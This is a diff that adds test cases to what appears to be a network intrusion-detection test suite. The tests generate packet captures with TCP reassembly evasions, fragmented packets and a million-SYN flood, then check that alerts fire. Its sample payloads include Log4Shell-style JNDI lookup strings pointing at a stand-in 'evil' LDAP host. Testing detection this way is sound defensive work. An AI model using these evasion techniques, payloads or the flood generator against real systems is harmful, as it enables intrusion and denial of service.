@@ -685,6 +685,154 @@ def tcp_stream_cross_segment_matching(env):
     expect_alerts(alerts, [(1, 1), (1, 2), (1, 3)])
 
 
+@case
+def stream_evasions(env):
+    """Evasions against the reassembler, each detected exactly once: one-byte segments, an
+    out-of-order overlap with different data resolved by the receiver's host-os-policy (first
+    keeps the bytes that came first, last the later ones: Suricata's stream-tcp-list.c), a
+    retransmission of delivered bytes with other data (delivered bytes never change), and a
+    hole the receiver acknowledged (a gap: reassembly goes on after it)."""
+    cap = Capture()
+    one = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
+    one.handshake()
+    for byte in b"GET /${jndi:ldap://x}":
+        last_byte = one.send(bytes([byte]))
+    # The byte completing "${jndi:" is the 12th: handshake (3) + 11 bytes "GET /${jndi" + ":".
+    completes = 3 + len(b"GET /${jndi:")
+    # Out of order with an overlap: [4,8) arrives as "EVIL", then again as "GOOD", then [0,4).
+    o = TcpSession(cap, "10.0.0.1", "10.0.0.5", 40001, 80)
+    o.handshake()
+    base = o.cseq
+    o.cseq = base + 4
+    o.send(b"EVIL")
+    o.cseq = base + 4
+    o.send(b"GOOD")
+    o.cseq = base
+    overlap_done = o.send(b"cmd=")
+    # Delivered, then retransmitted with other bytes: the first copy is what the host got.
+    d = TcpSession(cap, "10.0.0.1", "10.0.0.6", 40002, 80)
+    d.handshake()
+    start = d.cseq
+    delivered = d.send(b"user=root")
+    d.cseq = start
+    d.send(b"user=evil")
+    # A hole the server acknowledged: its bytes are lost to the sensor (a gap), and the stream
+    # goes on after it. tcp-stream rules see only reassembled bytes.
+    g = TcpSession(cap, "10.0.0.1", "10.0.0.7", 40003, 80)
+    g.handshake()
+    g.send(b"AAAA")
+    g.cseq += 4  # 4 bytes the sensor never sees
+    after_gap = g.send(b"after-the-gap-marker")
+    cap.add(pcapgen.ether("00:50:56:00:00:02", "00:50:56:00:00:01") / IP(src="10.0.0.7", dst="10.0.0.1") /
+            TCP(sport=80, dport=40003, flags="A", seq=g.sseq, ack=g.cseq))
+    # The sender's next segment finds the hole acknowledged: the engine skips it (a gap) and
+    # delivers what was queued behind it.
+    g.send(b"more")
+    cap.write(env.path("evasion.pcap"))
+    rules = "\n".join([
+        'alert tcp any any -> any 80 (msg:"jndi in one-byte segments"; content:"${jndi:"; sid:1;)',
+        'alert tcp any any -> 10.0.0.5 80 (msg:"the first copy won"; content:"cmd=EVIL"; sid:2;)',
+        'alert tcp any any -> 10.0.0.5 80 (msg:"the last copy won"; content:"cmd=GOOD"; sid:3;)',
+        'alert tcp-stream any any -> 10.0.0.6 80 (msg:"delivered bytes kept"; content:"user=root"; sid:4;)',
+        'alert tcp-stream any any -> 10.0.0.6 80 (msg:"retransmitted bytes"; content:"user=evil"; sid:5;)',
+        'alert tcp-stream any any -> 10.0.0.7 80 (msg:"after a gap"; content:"after-the-gap-marker"; sid:6;)',
+    ]) + "\n"
+    for policy, winner in (("first", 2), ("last", 3)):
+        shutil.rmtree(env.path("out"), ignore_errors=True)
+        alerts, stats = env.replay([env.path("evasion.pcap")], rules, "--set",
+                                   f"host-os-policy.{policy}=[10.0.0.5]")
+        got = sorted(sids_by_packet(alerts))
+        by_sid = {sid: n for n, sid in got}
+        check([sid for _, sid in got].count(1) == 1 and by_sid[1] == completes,
+              f"{policy}: one-byte segments alert once at packet {completes}: {got}")
+        check(by_sid.get(winner) == overlap_done and (5 - winner) not in by_sid,
+              f"{policy}: sid {winner} at the packet filling the hole ({overlap_done}): {got}")
+        check(by_sid.get(4) == delivered and 5 not in by_sid, f"delivered bytes are the ones inspected: {got}")
+        check(6 in by_sid and by_sid[6] >= after_gap, f"the stream goes on after the gap: {got}")
+        check(len(got) == 4, f"nothing else alerts: {got}")
+        check(stats["tcp"]["overlap_diff_data"] >= 2 and stats["tcp"]["reassembly_gap"] == 1, f"tcp {stats['tcp']}")
+    check(last_byte > completes, "the content completes before the last segment")
+
+
+@case
+def ipv6_fragments_every_order(env):
+    """An IPv6 TCP segment cut into three fragments alerts once whatever order the fragments come
+    in (all six), at the fragment that completes the datagram; so does an IPv4 one in tiny
+    8-byte fragments that split the TCP header itself."""
+    import itertools
+    from scapy.all import IPv6ExtHdrFragment, fragment6  # noqa: E402
+    cap = Capture()
+    done = []
+    for ident, order in enumerate(itertools.permutations(range(3))):
+        packet = pcapgen.IPv6(src="fd00::1", dst="fd00::2") / IPv6ExtHdrFragment(id=1000 + ident) / TCP(
+            sport=41000 + ident, dport=8080, flags="PA", seq=1, ack=1) / Raw(b"q" * 20 + b"V6-FRAG-SIGNATURE" + b"z" * 20)
+        frags = fragment6(packet, 80)
+        check(len(frags) == 3, f"three fragments, got {len(frags)}")
+        for i in order:
+            n = cap.add(pcapgen.ether() / frags[i])
+        done.append(n)
+    from scapy.all import fragment  # noqa: E402
+    tiny = fragment(IP(src="10.0.0.1", dst="10.0.0.2", id=321) / TCP(sport=42000, dport=8080, flags="PA", seq=1,
+                                                                      ack=1) / Raw(b"V6-FRAG-SIGNATURE"), fragsize=8)
+    check(len(tiny) == 5, f"five tiny fragments, got {len(tiny)}")
+    for frame in reversed(tiny):
+        n = cap.add(pcapgen.ether() / frame)
+    done.append(n)
+    cap.write(env.path("v6frag.pcap"))
+    rules = 'alert tcp any any -> any 8080 (msg:"split"; content:"V6-FRAG-SIGNATURE"; sid:1;)\n'
+    alerts, stats = env.replay([env.path("v6frag.pcap")], rules)
+    expect_alerts(alerts, [(n, 1) for n in done])
+    check(stats["defrag"]["ipv6"]["reassembled"] == 6, f"defrag {stats['defrag']}")
+    check(stats["defrag"]["ipv4"]["reassembled"] == 1, f"defrag {stats['defrag']}")
+
+
+@case
+def half_open_flood_memory_bounded(env):
+    """A million SYNs from distinct sources (half-open flows): the flow table and the session
+    pool stay within their memcaps (evictions and pool exhaustion are counted), peak memory stays
+    bounded, and an attack inside the flood is still detected."""
+    import struct
+    path = env.path("flood.pcap")
+    count = 1_000_000
+    with open(path, "wb") as f:
+        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+        frame = bytearray(bytes(ether() / IP(src="10.1.0.0", dst="10.0.0.2", ttl=64) /
+                                TCP(sport=1024, dport=80, flags="S", seq=7)))
+        for i in range(count):
+            # Source 10.(1 + i / 65536).(i / 256 % 256).(i % 256); the checksums go stale (counted,
+            # never enforced, as on a mirror port with offloading).
+            frame[26:30] = bytes((10, 1 + (i >> 16), (i >> 8) & 0xFF, i & 0xFF))
+            frame[34:36] = struct.pack(">H", 1024 + (i % 60000))
+            ts = 1795165200 + i // 100000
+            f.write(struct.pack("<IIII", ts, (i % 100000) * 10, len(frame), len(frame)))
+            f.write(frame)
+    cap = Capture(start=1795165200 + count // 100000 + 1)
+    s = TcpSession(cap, "10.0.0.9", "10.0.0.2", 40000, 80)
+    s.handshake()
+    attack = s.send(b"GET /${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
+    cap.write(env.path("attack.pcap"))
+    rules = 'alert tcp any any -> any 80 (msg:"jndi"; flow:established,to_server; content:"${jndi:"; sid:1;)\n'
+    out = env.path("out")
+    os.makedirs(out, exist_ok=True)
+    result = subprocess.run(["/usr/bin/time", "-f", "%M", env.binary, "-q", "-r", path, "-r", env.path("attack.pcap"),
+                             "-S", env.write("flood.rules", rules), "-l", out,
+                             "--set", "flow.memcap=64mb", "--set", "stream.memcap=32mb"],
+                            capture_output=True, text=True, timeout=300)
+    check(result.returncode == 0, f"exit {result.returncode}: {result.stderr[-2000:]}")
+    peak_kb = int(result.stderr.strip().splitlines()[-1])
+    records = [json.loads(line) for line in open(os.path.join(out, "eve.json"))]
+    alerts = [r for r in records if r["event_type"] == "alert"]
+    stats = [r for r in records if r["event_type"] == "stats"][-1]["stats"]
+    expect_alerts(alerts, [(count + attack, 1)])
+    check(stats["decoder"]["pkts"] == count + 4, f"every packet decoded: {stats['decoder']['pkts']}")
+    check(stats["flow"]["get_used"] > 0 or stats["flow"].get("emerg_mode_entered", 0) > 0,
+          f"the flow table evicted under the flood: {stats['flow']}")
+    check(stats["tcp"]["syn"] == count + 1, f"tcp {stats['tcp']}")
+    # 64 MB of flows + 32 MB of sessions + rules and buffers: well under 400 MB.
+    check(peak_kb < 400 * 1024, f"peak RSS {peak_kb} KB")
+    env.validate(os.path.join(out, "eve.json"))
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--eastwatch", required=True)
